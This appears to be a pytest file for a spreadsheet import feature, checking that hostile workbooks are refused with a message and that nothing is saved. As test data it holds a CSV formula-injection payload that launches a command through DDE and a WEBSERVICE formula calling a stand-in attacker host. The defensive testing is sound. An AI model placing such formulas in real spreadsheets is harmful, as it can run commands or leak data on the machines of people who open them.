"""Hostile workbooks: a clear sentence each, and nothing saved."""

import pytest

from app.core.errors import Invalid
from app.exchange.imports import apart
from app.exchange.imports.reading import read
from app.exchange.imports.sheets import Kind
from tests.exchange import books
from tests.exchange.hostile import HOSTILE
from tests.exchange.test_import_pages import API, sent
from tests.support.doors import Doors


@pytest.mark.parametrize("name", HOSTILE)
def test_it_refuses_with_a_sentence(name: str) -> None:
    file, made, sentence = HOSTILE[name]
    with pytest.raises(Invalid) as refused:
        read(file, made())
    assert refused.value.fields[0].field == "file"
    assert sentence in refused.value.message


def test_there_are_forty_of_them() -> None:
    assert len(HOSTILE) >= 40


def test_it_saves_nothing_of_a_hostile_workbook(sqlite_doors: Doors) -> None:
    program = sqlite_doors.token()
    for name in ("bomb", "entity of a file", "macros inside", "links to other files", "cut"):
        file, made, sentence = HOSTILE[name]
        answer = program.post(API, files=sent(made(), file))
        assert (answer.status_code, sentence in answer.json()["detail"]) == (422, True), name
    assert program.get(API).json()["items"] == []


def test_it_keeps_a_formula_of_a_csv_file_as_text() -> None:
    book = read("a.csv", b"Ref,Action required\n1,=cmd|'/C calc'!A0\n")
    cell = book.sheets[0].cells[2, 2]
    assert (cell.kind, cell.value, cell.formula) == (Kind.text, "=cmd|'/C calc'!A0", "")


def test_it_takes_a_formulas_result_and_never_the_formula() -> None:
    book, sheet = books.sheet_of([["Ref", "Action required"], ["1", "=1+1"]])
    sheet["B2"] = '=WEBSERVICE("http://evil.example")'
    cell = read("a.xlsx", books.saved(book)).sheets[0].cells[2, 2]
    assert (cell.kind, cell.value) == (Kind.error, "")
    assert cell.formula.startswith("=WEBSERVICE")


def test_it_is_the_same_in_a_process_of_its_own() -> None:
    content = books.brag()
    apart_read = apart.opened("brag.xlsx", content)
    assert apart_read.book == read("brag.xlsx", content)
    with pytest.raises(Invalid, match="damaged"):
        apart.opened("a.xlsx", HOSTILE["broken xml"][1]())
